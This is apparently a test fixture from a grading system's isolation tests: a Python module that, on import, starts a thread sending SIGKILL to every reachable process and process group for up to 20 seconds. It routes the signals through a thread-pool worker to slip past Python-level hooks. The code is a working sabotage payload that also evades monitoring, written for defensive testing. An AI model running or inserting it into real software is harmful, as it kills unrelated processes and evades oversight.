# module: cost
# A field attack (tests/test_field.py), appended to the reference: in every child that imports
# it, a thread sends SIGKILL every 20 ms to every process it can name (kill(-1), every process
# group and every pid of its PID namespace, which the test makes for its own grading run), for
# at most 20 s. The signals are sent by a thread pool's worker, with no frame of the student's
# on its stack (so a Python-level hook that looks for one lets them pass). Without isolation it
# kills the honest students' children, the templates and, where the grader is not root, the
# grader itself.
import os as _os
import signal as _signal
import threading as _threading
import time as _time
from concurrent.futures import ThreadPoolExecutor as _Pool

_TARGETS = (-1, *range(2, 2000))


def _throw():
    pool = _Pool(1)
    end = _time.monotonic() + 20
    while _time.monotonic() < end:
        sent = [pool.submit(send, target, _signal.SIGKILL) for target in _TARGETS for send in (_os.kill, _os.killpg)]
        for future in sent:
            future.exception()
        _time.sleep(0.02)


_threading.Thread(target=_throw, daemon=True).start()
